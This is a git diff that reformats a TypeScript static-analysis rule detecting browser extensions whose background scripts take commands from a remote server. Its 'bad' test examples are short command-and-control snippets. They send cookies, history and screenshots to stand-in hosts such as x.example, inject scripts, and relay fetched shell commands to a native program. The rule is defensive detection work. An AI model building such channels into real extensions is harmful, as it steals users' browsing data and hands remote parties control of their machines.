@@ -1,4 +1,12 @@
-import { apiPath, callsNamed, callsOf, GuardKind, receiverOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  GuardKind,
+  receiverOf,
+  type Call,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, type Judged } from './checkScripts.ts';
 import { isFromKnownServer, isFromServer, requestsOf } from './network.ts';
@@ -6,8 +14,36 @@ import { originPaths, originsOf } from './origins.ts';
 import { few, usageOf } from './usage.ts';
 
 /** Powers that nobody gives away to a server without meaning it. */
-const POWERS = ['chrome.tabs.executeScript', 'chrome.scripting.executeScript', 'chrome.cookies.getAll', 'chrome.history.search', 'chrome.tabs.captureVisibleTab', 'chrome.management.setEnabled', 'chrome.proxy.settings.set', 'chrome.debugger.sendCommand', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.downloads.download', 'chrome.browsingData.remove', 'chrome.windows.create', 'chrome.runtime.sendNativeMessage', 'fetch', 'chrome.tabs.query', 'chrome.bookmarks.getTree', 'chrome.declarativeNetRequest.updateDynamicRules', 'chrome.webRequest.onBeforeRequest.addListener', 'chrome.webRequest.onBeforeSendHeaders.addListener', 'chrome.scripting.registerContentScripts'];
-const WEAK: ReadonlySet<string> = new Set(['fetch', 'chrome.tabs.query', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.windows.create']);
+const POWERS = [
+  'chrome.tabs.executeScript',
+  'chrome.scripting.executeScript',
+  'chrome.cookies.getAll',
+  'chrome.history.search',
+  'chrome.tabs.captureVisibleTab',
+  'chrome.management.setEnabled',
+  'chrome.proxy.settings.set',
+  'chrome.debugger.sendCommand',
+  'chrome.tabs.create',
+  'chrome.tabs.update',
+  'chrome.downloads.download',
+  'chrome.browsingData.remove',
+  'chrome.windows.create',
+  'chrome.runtime.sendNativeMessage',
+  'fetch',
+  'chrome.tabs.query',
+  'chrome.bookmarks.getTree',
+  'chrome.declarativeNetRequest.updateDynamicRules',
+  'chrome.webRequest.onBeforeRequest.addListener',
+  'chrome.webRequest.onBeforeSendHeaders.addListener',
+  'chrome.scripting.registerContentScripts',
+];
+const WEAK: ReadonlySet<string> = new Set([
+  'fetch',
+  'chrome.tabs.query',
+  'chrome.tabs.create',
+  'chrome.tabs.update',
+  'chrome.windows.create',
+]);
 
 export const commandChannel = defineRule({
   id: 'command-channel',
@@ -22,9 +58,25 @@ export const commandChannel = defineRule({
   remedy: 'Let a server send data for one purpose. What the extension does must be decided in its own code.',
   check: checkScripts(function* (judged) {
     const { script, hit } = judged;
-    const channels = callsOf(script, 'WebSocket', 'EventSource', 'io', 'io.connect', 'mqtt.connect', 'chrome.gcm.onMessage.addListener', 'chrome.instanceID.getToken');
-    for (const call of [...callsOf(script, 'chrome.runtime.sendNativeMessage'), ...few(callsNamed(script, 'postMessage')).filter((one) => isNative(script, one))]) {
-      if (call.args.some((arg) => isFromServer(script, arg) && isFromKnownServer(script, arg))) yield hit(call.value, { severity: 'critical', message: 'What a server sends is handed to a program on the computer.' });
+    const channels = callsOf(
+      script,
+      'WebSocket',
+      'EventSource',
+      'io',
+      'io.connect',
+      'mqtt.connect',
+      'chrome.gcm.onMessage.addListener',
+      'chrome.instanceID.getToken',
+    );
+    for (const call of [
+      ...callsOf(script, 'chrome.runtime.sendNativeMessage'),
+      ...few(callsNamed(script, 'postMessage')).filter((one) => isNative(script, one)),
+    ]) {
+      if (call.args.some((arg) => isFromServer(script, arg) && isFromKnownServer(script, arg)))
+        yield hit(call.value, {
+          severity: 'critical',
+          message: 'What a server sends is handed to a program on the computer.',
+        });
     }
     yield* polled(judged, channels.length > 0);
     if (channels.length === 0) return;
@@ -33,31 +85,67 @@ export const commandChannel = defineRule({
     for (const path of POWERS) {
       for (const call of callsOf(script, path)) {
         // Named by a message: the call stands in what handles it, under a comparison with a command's name.
-        if (handlers.some(({ start, end }) => call.pos >= start && call.pos < end)) used.set(path, used.get(path) ?? call.value);
+        if (handlers.some(({ start, end }) => call.pos >= start && call.pos < end))
+          used.set(path, used.get(path) ?? call.value);
       }
     }
     const strong = [...used.keys()].filter((path) => !WEAK.has(path));
     const commands = commandNames(script, handlers);
     const first = channels[0] as { value: number };
-    if (strong.length >= 2 || (strong.length >= 1 && used.size >= 3)) yield hit(first.value, { severity: 'critical', message: `Messages of the server lead to ${[...used.keys()].join(', ')}.` });
-    else if (strong.length === 1 || (used.size >= 2 && commands >= 3)) yield hit(first.value, { confidence: 'medium', message: `Messages of the server lead to ${[...used.keys()].join(', ')}.` });
-    else for (const call of callsOf(script, 'chrome.tabs.create', 'chrome.tabs.update')) {
-      if (channels.some((channel) => call.args.some((arg) => originsOf(script, arg).has(channel.value))) && call.args.some((arg) => isFromServer(script, arg))) yield hit(call.value, { severity: 'medium', confidence: 'medium', message: 'A message of the server decides which page is opened.' });
-    }
+    if (strong.length >= 2 || (strong.length >= 1 && used.size >= 3))
+      yield hit(first.value, {
+        severity: 'critical',
+        message: `Messages of the server lead to ${[...used.keys()].join(', ')}.`,
+      });
+    else if (strong.length === 1 || (used.size >= 2 && commands >= 3))
+      yield hit(first.value, {
+        confidence: 'medium',
+        message: `Messages of the server lead to ${[...used.keys()].join(', ')}.`,
+      });
+    else
+      for (const call of callsOf(script, 'chrome.tabs.create', 'chrome.tabs.update')) {
+        if (
+          channels.some((channel) => call.args.some((arg) => originsOf(script, arg).has(channel.value))) &&
+          call.args.some((arg) => isFromServer(script, arg))
+        )
+          yield hit(call.value, {
+            severity: 'medium',
+            confidence: 'medium',
+            message: 'A message of the server decides which page is opened.',
+          });
+      }
   }),
   examples: {
     bad: [
-      backgroundExample('const ws = new WebSocket("wss://x.example/c"); ws.onmessage = async (e) => { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": ws.send(JSON.stringify(await chrome.cookies.getAll({}))); break; case "history": chrome.history.search({ text: "" }, (h) => ws.send(JSON.stringify(h))); break; case "open": chrome.tabs.create({ url: m.url }); break; } };'),
-      backgroundExample('const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }'),
-      backgroundExample('setInterval(async () => { const t = await (await fetch("https://x.example/task")).json(); if (t.cmd === "cookies") report(await chrome.cookies.getAll({})); else if (t.cmd === "history") report(await chrome.history.search({ text: "" })); }, 3e4);'),
-      backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };'),
-      backgroundExample('const port = chrome.runtime.connectNative("com.example.host"); setInterval(async () => { const list = await fetch("https://x.example/cmd").then((r) => r.json()); list.forEach((c) => port.postMessage({ exec: c.shell })); }, 6e4);'),
+      backgroundExample(
+        'const ws = new WebSocket("wss://x.example/c"); ws.onmessage = async (e) => { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": ws.send(JSON.stringify(await chrome.cookies.getAll({}))); break; case "history": chrome.history.search({ text: "" }, (h) => ws.send(JSON.stringify(h))); break; case "open": chrome.tabs.create({ url: m.url }); break; } };',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }',
+      ),
+      backgroundExample(
+        'setInterval(async () => { const t = await (await fetch("https://x.example/task")).json(); if (t.cmd === "cookies") report(await chrome.cookies.getAll({})); else if (t.cmd === "history") report(await chrome.history.search({ text: "" })); }, 3e4);',
+      ),
+      backgroundExample(
+        'const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };',
+      ),
+      backgroundExample(
+        'const port = chrome.runtime.connectNative("com.example.host"); setInterval(async () => { const list = await fetch("https://x.example/cmd").then((r) => r.json()); list.forEach((c) => port.postMessage({ exec: c.shell })); }, 6e4);',
+      ),
     ],
     good: [
-      backgroundExample('const port = chrome.runtime.connectNative("com.example.host"); chrome.runtime.onMessage.addListener((m) => port.postMessage({ ask: m.site })); fetch("https://api.example.com/v").then((r) => r.json()).then((v) => chrome.action.setBadgeText({ text: v.n }));'),
-      backgroundExample('async function sync() { const d = await (await fetch("https://api.example.com/s")).json(); if (d.status === "ok") chrome.action.setBadgeText({ text: d.count }); if (mode === "x") chrome.cookies.getAll({}, count); } setInterval(sync, 6e4);'),
-      backgroundExample('const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };'),
-      backgroundExample('const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);'),
+      backgroundExample(
+        'const port = chrome.runtime.connectNative("com.example.host"); chrome.runtime.onMessage.addListener((m) => port.postMessage({ ask: m.site })); fetch("https://api.example.com/v").then((r) => r.json()).then((v) => chrome.action.setBadgeText({ text: v.n }));',
+      ),
+      backgroundExample(
+        'async function sync() { const d = await (await fetch("https://api.example.com/s")).json(); if (d.status === "ok") chrome.action.setBadgeText({ text: d.count }); if (mode === "x") chrome.cookies.getAll({}, count); } setInterval(sync, 6e4);',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);',
+      ),
     ],
   },
 });
@@ -79,7 +167,12 @@ function* polled({ script, hit }: Judged, hasChannel: boolean): Generator<Hit> {
   }
   const [first] = used;
   if (first === undefined) return;
-  yield hit(first[1], { ...(used.size >= 2 ? { severity: 'critical' as const } : { severity: 'medium' as const, confidence: 'medium' as const }), message: `What a server answers leads to ${[...used.keys()].join(', ')}.` });
+  yield hit(first[1], {
+    ...(used.size >= 2
+      ? { severity: 'critical' as const }
+      : { severity: 'medium' as const, confidence: 'medium' as const }),
+    message: `What a server answers leads to ${[...used.keys()].join(', ')}.`,
+  });
 }
 
 /** Functions that run when a channel says something, and those that they call with it. */
@@ -92,17 +185,24 @@ function handlersOf(script: ScriptFacts, channels: ReadonlySet<number>): { start
     return false;
   };
   for (const fn of new Set([...usage.stored.keys(), ...usage.takers.keys()])) {
-    for (const at of usage.stored.get(fn) ?? []) if (script.strings[script.writes[at + 1] as number] === 'onmessage' && leads(script.writes[at] as number)) fns.add(fn);
+    for (const at of usage.stored.get(fn) ?? [])
+      if (script.strings[script.writes[at + 1] as number] === 'onmessage' && leads(script.writes[at] as number))
+        fns.add(fn);
     for (const call of usage.takers.get(fn) ?? []) {
-      const name = script.op[script.a[call] as number] === 4 ? script.strings[script.b[script.a[call] as number] as number] : '';
-      if ((name === 'addEventListener' || name === 'on') && leads(script.a[script.a[call] as number] as number)) fns.add(fn);
+      const name =
+        script.op[script.a[call] as number] === 4 ? script.strings[script.b[script.a[call] as number] as number] : '';
+      if ((name === 'addEventListener' || name === 'on') && leads(script.a[script.a[call] as number] as number))
+        fns.add(fn);
       if (name === 'addListener' && channels.has(call)) fns.add(fn);
     }
   }
   // And what is called inside them; the set grows while it is walked.
   for (const fn of fns) {
     const { start, end } = script.functions[fn] as { start: number; end: number };
-    if (fns.size < 60) for (const [other, calls] of usage.callers) if (calls.some((call) => (script.pos[call] as number) >= start && (script.pos[call] as number) < end)) fns.add(other);
+    if (fns.size < 60)
+      for (const [other, calls] of usage.callers)
+        if (calls.some((call) => (script.pos[call] as number) >= start && (script.pos[call] as number) < end))
+          fns.add(other);
   }
   return [...fns].map((fn) => script.functions[fn] as { start: number; end: number });
 }
@@ -123,5 +223,8 @@ function commandNames(script: ScriptFacts, ranges: readonly { start: number; end
 /** `port.postMessage(…)` on a port to a program on the computer. */
 function isNative(script: ScriptFacts, call: Call): boolean {
   const port = receiverOf(script, call);
-  return apiPath(script, port) === 'chrome.runtime.connectNative()' || originPaths(script, port).has('chrome.runtime.connectNative');
+  return (
+    apiPath(script, port) === 'chrome.runtime.connectNative()' ||
+    originPaths(script, port).has('chrome.runtime.connectNative')
+  );
 }
